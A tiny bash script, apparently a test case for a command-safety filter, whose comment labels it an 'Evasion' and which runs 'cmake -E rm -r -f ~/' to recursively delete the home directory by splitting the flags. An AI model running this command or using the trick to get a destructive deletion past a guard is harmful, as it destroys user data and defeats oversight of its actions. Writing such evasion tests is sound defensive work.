#!/bin/bash
# Evasion: cmake -E rm with -r and -f as separate options removes the home
set -u
cmake -E rm -r -f ~/
